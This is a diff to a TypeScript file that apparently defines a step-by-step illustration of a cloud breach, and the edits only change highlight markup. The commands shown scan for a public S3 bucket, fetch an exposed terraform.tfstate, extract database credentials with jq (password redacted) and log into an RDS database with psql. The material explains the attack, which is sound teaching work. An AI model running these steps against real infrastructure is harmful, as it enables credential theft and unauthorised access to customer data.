@@ -18,7 +18,7 @@ export const cloudPath: AttackPath = {
       glyph: 'globe',
       lane: 1,
       name: 'Guess the bucket name',
-      lines: ['$ s3scanner -bucket kestrel-infra', 'kestrel-infra | exists | {+AllUsers: READ+}'],
+      lines: ['$ s3scanner -bucket kestrel-infra', 'kestrel-infra | exists | {!AllUsers: READ!}'],
     },
     {
       label: 'terraform.tfstate',
@@ -28,7 +28,7 @@ export const cloudPath: AttackPath = {
       lines: [
         '$ curl -sI https://kestrel-infra.s3.amazonaws.com\\',
         '    {-/prod/terraform.tfstate-} {#1}',
-        '{+HTTP/1.1 200 OK+}',
+        '{!HTTP/1.1 200 OK!}',
         'Content-Length: 418332',
       ],
       notes: ['no key, no signature'],
@@ -47,7 +47,7 @@ export const cloudPath: AttackPath = {
         '$ jq \'.resources[] | select(.type == "aws_db_instance")',
         "    | .instances[0].attributes' terraform.tfstate",
         '{ "username": "app_owner",',
-        '  "password": {+"[redacted, 24 characters]"+} }',
+        '  "password": {!"[redacted, 24 characters]"!} }',
       ],
       after: [
         '$ psql -h orders.[...].rds.amazonaws.com -U app_owner',
@@ -63,7 +63,7 @@ export const cloudPath: AttackPath = {
       lines: [
         '$ psql -h orders.[...].rds.amazonaws.com -U app_owner',
         'orders=> select count(*) from customers;',
-        ' {+118204+}',
+        ' {!118204!}',
         '# counted once, nothing copied',
       ],
       after: [
